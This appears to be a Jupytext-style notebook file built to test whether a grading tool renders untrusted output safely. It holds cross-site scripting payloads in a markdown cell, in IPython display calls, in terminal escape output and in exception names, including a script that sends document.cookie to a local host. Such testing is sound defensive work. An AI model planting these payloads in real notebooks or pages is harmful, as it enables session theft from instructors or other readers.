"""Put script into prose and outputs, for the browser of the person who reads them.

Gain: the instructor's session. It earns no points; showing it harmlessly is the feedback's work.
"""

# %% [markdown]
# <script>fetch("http://127.0.0.1/steal?" + document.cookie)</script>
# <img src=x onerror="alert(1)"> [link](javascript:alert(1))

# %%
from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>alert('@MARK@')</script><iframe src='javascript:alert(1)'></iframe>"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect/></svg>"))
display({"text/html": "<b onmouseover=alert(1)>", "application/javascript": "x"}, raw=True)
display({"text/markdown": "<script>1</script>", "text/latex": r"\href{javascript:1}{x}"}, raw=True)
print("\x1b]0;title\x07\x1b[2J</pre></script><script>alert(2)</script>")


# %% task="unknown"
class Error(Exception):
    pass


Error.__name__ = "<script>alert(3)</script>"


def riddle(x):
    raise Error("</pre><script>alert(4)</script>")
